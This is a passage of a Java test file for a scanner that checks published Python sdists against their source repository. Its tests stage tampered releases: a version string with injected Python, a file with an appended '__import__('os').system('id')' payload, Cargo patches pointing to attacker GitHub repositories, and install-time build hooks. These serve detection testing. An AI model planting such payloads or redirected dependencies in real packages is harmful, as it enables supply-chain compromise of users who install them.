                    "demo/bad2/_version.py", String.format(ScmVersionFileTest.SCM_8_COMMIT, "1.0.0", "(1, 0, 0)",
                            "'not-a-commit'"),
                    "demo/v/_version.py", String.format(legacy, "1.0.0"),
                    "demo/w/_version.py", versioneerShort(noDate),
                    "demo/x/_version.py", String.format(legacy, "1.0.0' + __import__('os').getcwd() + '")),
                    wheelFiles(tree));
            ArtifactReport sdist = artifact(w.scan("1.0.0"), ".tar.gz");
            for (String p : List.of("demo/_version.py", "demo/a/_version.py", "demo/b/_version.py", "demo/c/version.py")) {
                assertRow(sdist, "demo-1.0.0/" + p, FileStatus.GENERATED, PypiGeneratedFiles.SCM_VERSION_FILE, false);
            }
            assertRow(sdist, "demo-1.0.0/demo/bad/_version.py", FileStatus.PHANTOM, Classifier.UNEXPLAINED, false);
            assertRow(sdist, "demo-1.0.0/demo/bad2/_version.py", FileStatus.PHANTOM, Classifier.UNEXPLAINED, false);
            assertRow(sdist, "demo-1.0.0/demo/v/_version.py", FileStatus.GENERATED, PypiGeneratedFiles.VERSIONEER_FILE, false);
            assertRow(sdist, "demo-1.0.0/demo/w/_version.py", FileStatus.GENERATED, PypiGeneratedFiles.VERSIONEER_FILE, false);
            assertEquals(FileStatus.MODIFIED, row(sdist, "demo-1.0.0/demo/x/_version.py").status());
        }
    }

    private static SortedMap<String, byte[]> setupPyProject(String setupPy) {
        return with(Trees.without(project(), "pyproject.toml"), "setup.py", setupPy,
                "requirements.txt", "httpx>=0.27\n# pinned elsewhere\ntoolz  # functional helpers\n");
    }

    @Test
    void dependenciesSetupPyReadsFromARequirementsFileOrAModuleLevelLiteralAreDeclared() throws Exception {
        SortedMap<String, byte[]> tree = setupPyProject("from setuptools import setup\n\nEXTRAS = {\n    'cli': ['click>=8'],\n}\n\n"
                + "setup(\n    name='demo',\n    install_requires=list(open('requirements.txt').read().strip().split('\\n')),\n"
                + "    extras_require=EXTRAS,\n)\n");
        try (ScanWorld w = world(tree)) {
            w.publish("1.0.0", with(tree, "demo.egg-info/requires.txt", "httpx>=0.27\ntoolz\n\n[cli]\nclick>=8\n"),
                    wheelFiles(tree), Map.of("METADATA", utf8(metadata("httpx>=0.27", "toolz", "telemetry-kit"))));
            ReleaseReport r = w.scan("1.0.0");
            assertRow(artifact(r, ".tar.gz"), "demo-1.0.0/demo.egg-info/requires.txt", FileStatus.GENERATED,
                    PypiGeneratedFiles.SDIST_EGG_INFO, false);
            FileDivergence meta = row(artifact(r, ".whl"), "demo-1.0.0.dist-info/METADATA");
            assertEquals(PypiGeneratedFiles.NEW_DEPENDENCY, meta.ruleId());
            assertEquals("new dependencies [telemetry-kit]", meta.detail().orElseThrow());
            assertTrue(meta.highRisk());
        }
    }

    @Test
    void dependenciesComputedBeyondTheRequirementsFileIdiomStayUnverified() throws Exception {
        List<String> setups = List.of(
                // the name is extended after its literal binding
                "from setuptools import setup\nEXTRAS = {'cli': ['click>=8']}\nEXTRAS['cli'].append('evil')\n"
                        + "setup(name='demo', install_requires=['httpx>=0.27', 'toolz'], extras_require=EXTRAS)\n",
                // more than the file: a call the idiom does not allow
                "from setuptools import setup\nsetup(name='demo', install_requires=open('requirements.txt').read().split()"
                        + " + fetch_more(), extras_require={'cli': ['click>=8']})\n",
                // a file that includes another one
                "from setuptools import setup\nsetup(name='demo', install_requires=open('reqs-r.txt').read().splitlines(),"
                        + " extras_require={'cli': ['click>=8']})\n");
        for (int i = 0; i < setups.size(); i++) {
            SortedMap<String, byte[]> tree = with(setupPyProject(setups.get(i)), "reqs-r.txt", "-r requirements.txt\n");
            try (ScanWorld w = new ScanWorld(dir.resolve("w" + i), "demo")) {
                w.commit(tree, "1.0.0");
                w.tag("v1.0.0");
                w.publish("1.0.0", with(tree, "demo.egg-info/requires.txt", "httpx>=0.27\ntoolz\n\n[cli]\nclick>=8\n"),
                        wheelFiles(tree));
                assertRow(artifact(w.scan("1.0.0"), ".tar.gz"), "demo-1.0.0/demo.egg-info/requires.txt", FileStatus.PHANTOM,
                        PypiGeneratedFiles.METADATA_UNVERIFIED, false);
            }
        }
    }

    @Test
    void aSymlinkInTheRepositoryShippedAsItsTargetIsMatchNormalizedAndNothingElseIs() throws Exception {
        SortedMap<String, byte[]> tree = with(project(), "tools/other.py", "print('other')\n");
        try (ScanWorld w = new ScanWorld(dir, "demo")) {
            w.commit(tree, "1.0.0");
            // links as git stores them (mode 120000, the blob is the target): followed by setuptools' copy
            try (org.eclipse.jgit.api.Git git = org.eclipse.jgit.api.Git.open(w.git.dir().toFile())) {
                Path tools = w.git.dir().resolve("tools");
                java.nio.file.Files.createSymbolicLink(tools.resolve("core.py"), Path.of("../demo/core.py"));
                java.nio.file.Files.createSymbolicLink(tools.resolve("util.py"), Path.of("../demo/util.py"));
                java.nio.file.Files.createSymbolicLink(tools.resolve("chain.py"), Path.of("core.py"));
                java.nio.file.Files.createSymbolicLink(tools.resolve("outside.py"), Path.of("../../outside.py"));
                git.add().addFilepattern("tools").call();
                git.commit().setMessage("links").setSign(false).call();
            }
            w.tag("v1.0.0");
            String core = new String(tree.get("demo/core.py"), StandardCharsets.UTF_8);
            w.publish("1.0.0", with(tree, "tools/core.py", core, "tools/chain.py", core,
                            "tools/util.py", new String(tree.get("demo/util.py"), StandardCharsets.UTF_8)
                                    + "__import__('os').system('id')\n", // the target plus a payload
                            "tools/outside.py", core),
                    wheelFiles(tree));
            ArtifactReport sdist = artifact(w.scan("1.0.0"), ".tar.gz");
            assertRow(sdist, "demo-1.0.0/tools/core.py", FileStatus.MATCH_NORMALIZED, PypiGeneratedFiles.SYMLINK_FOLLOWED, false);
            assertRow(sdist, "demo-1.0.0/tools/chain.py", FileStatus.MATCH_NORMALIZED, PypiGeneratedFiles.SYMLINK_FOLLOWED,
                    false);
            assertRow(sdist, "demo-1.0.0/tools/util.py", FileStatus.MODIFIED, Classifier.UNEXPLAINED, true);
            assertEquals(FileStatus.IN_HISTORY, row(sdist, "demo-1.0.0/tools/outside.py").status(), "outside the repository");
        }
    }

    /** Where each build reads the requirements file from: setuptools' dynamic file, setup.cfg's file:, setup.py. */
    private static List<SortedMap<String, byte[]>> requirementsFileProjects() {
        return List.of(
                with(project(), "pyproject.toml", "[build-system]\nrequires = [\"setuptools>=64\"]\n"
                                + "build-backend = \"setuptools.build_meta\"\n\n[project]\nname = \"demo\"\nversion = \"1.0.0\"\n"
                                + "dynamic = [\"dependencies\", \"optional-dependencies\"]\n\n[tool.setuptools.dynamic]\n"
                                + "dependencies = {file = [\"requirements.txt\"]}\n"
                                + "optional-dependencies = {cli = {file = [\"requirements-cli.txt\"]}}\n",
                        "requirements.txt", "httpx>=0.27\n", "requirements-cli.txt", "click>=8\n"),
                with(Trees.without(project(), "pyproject.toml"), "setup.py", "from setuptools import setup\nsetup()\n",
                        "setup.cfg", "[metadata]\nname = demo\n\n[options]\ninstall_requires = file: requirements.txt\n\n"
                                + "[options.extras_require]\ncli = file: requirements-cli.txt\n",
                        "requirements.txt", "httpx>=0.27\n", "requirements-cli.txt", "click>=8\n"),
                with(setupPyProject("from setuptools import setup\nfrom pathlib import Path\n\n"
                        + "reqs = Path(__file__).with_name('requirements.txt').read_text().splitlines()\n"
                        + "setup(name='demo', install_requires=reqs,\n"
                        + "      extras_require={'cli': open('requirements-cli.txt').read().split()})\n"),
                        "requirements-cli.txt", "click>=8\n"));
    }

    private ScanWorld world(int i, SortedMap<String, byte[]> tree) throws Exception {
        ScanWorld w = new ScanWorld(dir.resolve("w" + i), "demo");
        w.commit(tree, "1.0.0");
        w.tag("v1.0.0");
        return w;
    }

    @Test
    void aRequirementTheSdistsRequirementsFileGainsIsHighRiskWhereTheBuildReadsItsDependenciesFromIt() throws Exception {
        for (int i = 0; i < requirementsFileProjects().size(); i++) {
            SortedMap<String, byte[]> tree = requirementsFileProjects().get(i);
            String reqs = new String(tree.get("requirements.txt"), StandardCharsets.UTF_8);
            try (ScanWorld w = world(i, tree)) {
                w.publish("1.0.0", with(tree, "requirements.txt", reqs + "demo-support @ https://example.invalid/s-1.0.tar.gz\n",
                        "requirements-cli.txt", "click>=8,<9\n"), wheelFiles(tree));
                ArtifactReport sdist = artifact(w.scan("1.0.0"), ".tar.gz");
                assertRow(sdist, "demo-1.0.0/requirements.txt", FileStatus.MODIFIED, PypiGeneratedFiles.NEW_DEPENDENCY, true);
                assertTrue(row(sdist, "demo-1.0.0/requirements.txt").riskFlags().contains(RiskFlag.NEW_DEPENDENCY));
                assertTrue(row(sdist, "demo-1.0.0/requirements.txt").detail().orElseThrow()
                        .contains("demo-support @ https://example.invalid/s-1.0.tar.gz"), "project " + i);
                // another constraint on a requirement the source has is a changed requirement
                assertRow(sdist, "demo-1.0.0/requirements-cli.txt", FileStatus.MODIFIED, PypiGeneratedFiles.NEW_DEPENDENCY,
                        true);
                assertEquals(Verdict.HIGH_RISK, sdist.verdict(), "project " + i);
            }
        }
    }

    @Test
    void anIncludedRequirementsFileAndANewPipOptionOrUrlLineAreDependenciesToo() throws Exception {
        SortedMap<String, byte[]> tree = with(requirementsFileProjects().get(0), "requirements.txt",
                "-r reqs/base.txt\n", "reqs/base.txt", "httpx>=0.27\n");
        try (ScanWorld w = world(tree)) {
            w.publish("1.0.0", with(tree, "reqs/base.txt", "httpx>=0.27\ntelemetry-kit\n",
                    "requirements-cli.txt", "click>=8\n--extra-index-url https://example.invalid/simple\n"
                            + "https://example.invalid/extra-1.0.tar.gz\n"), wheelFiles(tree));
            ArtifactReport sdist = artifact(w.scan("1.0.0"), ".tar.gz");
            assertRow(sdist, "demo-1.0.0/reqs/base.txt", FileStatus.MODIFIED, PypiGeneratedFiles.NEW_DEPENDENCY, true);
            FileDivergence cli = row(sdist, "demo-1.0.0/requirements-cli.txt");
            assertEquals(PypiGeneratedFiles.NEW_DEPENDENCY, cli.ruleId());
            assertTrue(cli.highRisk());
            assertTrue(cli.detail().orElseThrow().contains("--extra-index-url https://example.invalid/simple"));
            assertTrue(cli.detail().orElseThrow().contains("https://example.invalid/extra-1.0.tar.gz"));
        }
    }

    @Test
    void aPyprojectNamingAnotherRequirementsFileIsANewDependencyAndSoIsThatFile() throws Exception {
        SortedMap<String, byte[]> tree = requirementsFileProjects().get(0);
        String pyproject = new String(tree.get("pyproject.toml"), StandardCharsets.UTF_8);
        try (ScanWorld w = world(tree)) {
            w.publish("1.0.0", with(tree, "pyproject.toml", pyproject.replace("[\"requirements.txt\"]",
                    "[\"requirements.txt\", \"requirements-more.txt\"]"), "requirements-more.txt", "telemetry-kit\n"),
                    wheelFiles(tree));
            ArtifactReport sdist = artifact(w.scan("1.0.0"), ".tar.gz");
            assertRow(sdist, "demo-1.0.0/pyproject.toml", FileStatus.MODIFIED, PypiGeneratedFiles.NEW_DEPENDENCY, true);
            assertRow(sdist, "demo-1.0.0/requirements-more.txt", FileStatus.PHANTOM, PypiGeneratedFiles.NEW_DEPENDENCY, true);
        }
    }

    @Test
    void aRequirementsFileNoBuildReadsOrOneChangedWithoutANewRequirementIsJudgedAsBefore() throws Exception {
        // docs/requirements.txt is named by nothing the build reads; the named file only loses a requirement and
        // gains comments, blank lines and another order; CRLF line endings get the shared normalisation, as any file
        SortedMap<String, byte[]> tree = with(requirementsFileProjects().get(0), "requirements.txt", "httpx>=0.27\ntoolz\n",
                "docs/requirements.txt", "sphinx\n", "demo/notes.txt", "a\nb\n");
        try (ScanWorld w = world(tree)) {
            w.publish("1.0.0", with(tree, "requirements.txt", "# runtime\n\ntoolz  # helpers\n",
                    "docs/requirements.txt", "sphinx\nsphinx-evil @ https://example.invalid/e.tar.gz\n",
                    "requirements-cli.txt", "click>=8\r\n", "demo/notes.txt", "a\r\nb\r\n"), wheelFiles(tree));
            ArtifactReport sdist = artifact(w.scan("1.0.0"), ".tar.gz");
            assertRow(sdist, "demo-1.0.0/requirements.txt", FileStatus.MODIFIED, Classifier.UNEXPLAINED, false);
            assertRow(sdist, "demo-1.0.0/docs/requirements.txt", FileStatus.MODIFIED, Classifier.UNEXPLAINED, false);
            FileDivergence notes = row(sdist, "demo-1.0.0/demo/notes.txt");
            assertEquals(FileStatus.MATCH_NORMALIZED, notes.status());
            assertRow(sdist, "demo-1.0.0/requirements-cli.txt", notes.status(), notes.ruleId(), false);
            assertEquals(Verdict.DIVERGENT, sdist.verdict());
        }
    }

    private static final String BUILD_RS = "fn main() {\n    println!(\"cargo:rerun-if-changed=build.rs\");\n}\n";

    /** A maturin project: a crate at the root with build.rs, one in ext/ naming gen.rs, one in off/ with build = false. */
    private static SortedMap<String, byte[]> rustProject() {
        return with(project(),
                "pyproject.toml", "[build-system]\nrequires = [\"maturin>=1,<2\"]\nbuild-backend = \"maturin\"\n\n" + PYPROJECT,
                "Cargo.toml", "[package]\nname = \"demo\"\nversion = \"1.0.0\"\n",
                "build.rs", BUILD_RS,
                "src/lib.rs", "pub fn f() {}\n",
                "ext/Cargo.toml", "[package]\nname = \"ext\"\nversion = \"1.0.0\"\nbuild = \"./tools/../gen.rs\"\n",
                "off/Cargo.toml", "[package]\nname = \"off\"\nversion = \"1.0.0\"\nbuild = false\n",
                "off/build.rs", BUILD_RS);
    }

    @Test
    void aCargoBuildScriptChangedOrAddedInAnSdistRunsAtInstallAndIsHighRisk() throws Exception {
        // maturin and setuptools-rust run Cargo when pip builds the sdist; Cargo runs each crate's build script first
        SortedMap<String, byte[]> tree = rustProject();
        try (ScanWorld w = world(tree)) {
            w.publish("1.0.0", with(tree, "build.rs", BUILD_RS.replace("}\n", "    let _ = 1;\n}\n"),
                    "ext/gen.rs", "fn main() {}\n", "src/lib.rs", "pub fn f() { let _ = 2; }\n"), wheelFiles(tree));
            ArtifactReport sdist = artifact(w.scan("1.0.0"), ".tar.gz");
            assertRow(sdist, "demo-1.0.0/build.rs", FileStatus.MODIFIED, Classifier.UNEXPLAINED, true);
            assertTrue(row(sdist, "demo-1.0.0/build.rs").riskFlags().contains(RiskFlag.AUTO_EXEC));
            assertRow(sdist, "demo-1.0.0/ext/gen.rs", FileStatus.PHANTOM, Classifier.UNEXPLAINED, true);
            // the crate's library is compiled, not run by the build: divergent like any modified module
            assertRow(sdist, "demo-1.0.0/src/lib.rs", FileStatus.MODIFIED, Classifier.UNEXPLAINED, false);
            assertEquals(List.of("demo-1.0.0/build.rs", "demo-1.0.0/ext/gen.rs"),
                    sdist.highRiskPaths().stream().sorted().toList());
            assertEquals(Verdict.HIGH_RISK, sdist.verdict());
        }
    }

    @Test
    void theSourcesCargoBuildScriptIsExplainedAndOneCargoDoesNotRunIsNotHighRisk() throws Exception {
        SortedMap<String, byte[]> tree = rustProject();
        try (ScanWorld w = world(tree)) {
            w.publish("1.0.0", with(tree, "off/build.rs", BUILD_RS.replace("}\n", "    let _ = 1;\n}\n")), wheelFiles(tree));
            ArtifactReport sdist = artifact(w.scan("1.0.0"), ".tar.gz");
            assertRow(sdist, "demo-1.0.0/build.rs", FileStatus.MATCH, Classifier.BLOB_EQUAL, false);
            assertRow(sdist, "demo-1.0.0/off/build.rs", FileStatus.MODIFIED, Classifier.UNEXPLAINED, false);
            assertFalse(row(sdist, "demo-1.0.0/off/build.rs").riskFlags().contains(RiskFlag.AUTO_EXEC));
            assertEquals(Verdict.DIVERGENT, sdist.verdict());
        }
    }

    private static final String CARGO_TOML = "[package]\nname = \"demo\"\nversion = \"1.0.0\"\n\n[dependencies]\n"
            + "pyo3 = { version = \"0.22\", features = [\"extension-module\"] }\nlocal = { path = \"../local\" }\n"
            + "forked = { git = \"https://github.com/org/forked\", branch = \"main\" }\n";
    private static final String CARGO_LOCK = "version = 3\n\n[[package]]\nname = \"pyo3\"\nversion = \"0.22.0\"\n"
            + "source = \"registry+https://github.com/rust-lang/crates.io-index\"\n\n[[package]]\nname = \"forked\"\n"
            + "version = \"0.1.0\"\nsource = \"git+https://github.com/org/forked?branch=main#aaaaaaaa\"\n";

    @Test
    void aCargoDependencyPatchOrConfigurationAddedInAnSdistIsHighRisk() throws Exception {
        SortedMap<String, byte[]> tree = with(rustProject(), "Cargo.toml", CARGO_TOML, "Cargo.lock", CARGO_LOCK);
        try (ScanWorld w = world(tree)) {
            w.publish("1.0.0", with(tree,
                    "Cargo.toml", CARGO_TOML + "support = { git = \"https://github.com/attacker/support\" }\n\n"
                            + "[patch.crates-io]\npyo3 = { git = \"https://github.com/attacker/pyo3\" }\n",
                    "ext/Cargo.toml", new String(tree.get("ext/Cargo.toml"), StandardCharsets.UTF_8)
                            + "\n[target.'cfg(unix)'.build-dependencies]\nhelper = \"1\"\n",
                    "Cargo.lock", CARGO_LOCK + "\n[[package]]\nname = \"support\"\nversion = \"0.1.0\"\n"
                            + "source = \"git+https://github.com/attacker/support#bbbbbbbb\"\n",
                    ".cargo/config.toml", "[build]\nrustc-wrapper = \"./tools/wrap.sh\"\n"), wheelFiles(tree));
            ArtifactReport sdist = artifact(w.scan("1.0.0"), ".tar.gz");
            for (String p : List.of("Cargo.toml", "ext/Cargo.toml", "Cargo.lock")) {
                assertRow(sdist, "demo-1.0.0/" + p, FileStatus.MODIFIED, PypiGeneratedFiles.CARGO_DEPENDENCY, true);
                assertTrue(row(sdist, "demo-1.0.0/" + p).riskFlags().contains(RiskFlag.NEW_DEPENDENCY), p);
            }
            assertTrue(row(sdist, "demo-1.0.0/Cargo.toml").detail().orElseThrow().contains("patch.crates-io.pyo3"));
            assertRow(sdist, "demo-1.0.0/.cargo/config.toml", FileStatus.PHANTOM, Classifier.UNEXPLAINED, true);
            assertTrue(row(sdist, "demo-1.0.0/.cargo/config.toml").riskFlags().contains(RiskFlag.AUTO_EXEC));
            assertEquals(Verdict.HIGH_RISK, sdist.verdict());
        }
    }

    @Test
    void aCargoManifestReformattedOrWithADevDependencyOrARewrittenPathAndALockUpdateFromTheSameSourcesAreNotHighRisk()
            throws Exception {
        SortedMap<String, byte[]> tree = with(rustProject(), "Cargo.toml", CARGO_TOML, "Cargo.lock", CARGO_LOCK);
        try (ScanWorld w = world(tree)) {
            w.publish("1.0.0", with(tree,
                    "Cargo.toml", "# published\n[package]\nname = \"demo\"\nversion = \"1.0.0\"\n\n[dependencies]\n"
                            + "local = { path = \"local\" }\nforked = { branch = \"main\", git = \"https://github.com/org/forked\" }\n"
                            + "\n[dependencies.pyo3]\nversion = \"0.22\"\nfeatures = [\"extension-module\"]\n"
                            + "\n[dev-dependencies]\nproptest = \"1\"\n",
                    "Cargo.lock", CARGO_LOCK.replace("0.22.0", "0.22.6").replace("#aaaaaaaa", "#cccccccc")),
                    wheelFiles(tree));
            ArtifactReport sdist = artifact(w.scan("1.0.0"), ".tar.gz");
            assertRow(sdist, "demo-1.0.0/Cargo.toml", FileStatus.MODIFIED, Classifier.UNEXPLAINED, false);
            assertRow(sdist, "demo-1.0.0/Cargo.lock", FileStatus.MODIFIED, Classifier.UNEXPLAINED, false);
            assertEquals(Verdict.DIVERGENT, sdist.verdict());
        }
    }

    @Test
    void aHatchBuildHookAddedToThePublishedPyprojectRunsAtInstallAndIsHighRisk() throws Exception {
        // the hook is read from the published pyproject.toml, which is what the build backend obeys
        SortedMap<String, byte[]> tree = with(project(), "pyproject.toml",
                "[build-system]\nrequires = [\"hatchling\"]\nbuild-backend = \"hatchling.build\"\n\n" + PYPROJECT);
        try (ScanWorld w = world(tree)) {
            w.publish("1.0.0", with(tree, "pyproject.toml", new String(tree.get("pyproject.toml"), StandardCharsets.UTF_8)
                    + "\n[tool.hatch.build.targets.wheel.hooks.custom]\npath = \"tools/hook.py\"\n",
                    "tools/hook.py", "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n"
                            + "class Hook(BuildHookInterface):\n    pass\n"), wheelFiles(tree));
            ArtifactReport sdist = artifact(w.scan("1.0.0"), ".tar.gz");
            assertRow(sdist, "demo-1.0.0/tools/hook.py", FileStatus.PHANTOM, Classifier.UNEXPLAINED, true);
            assertTrue(row(sdist, "demo-1.0.0/tools/hook.py").riskFlags().contains(RiskFlag.AUTO_EXEC));
            assertEquals(Verdict.HIGH_RISK, sdist.verdict());
        }
    }
}
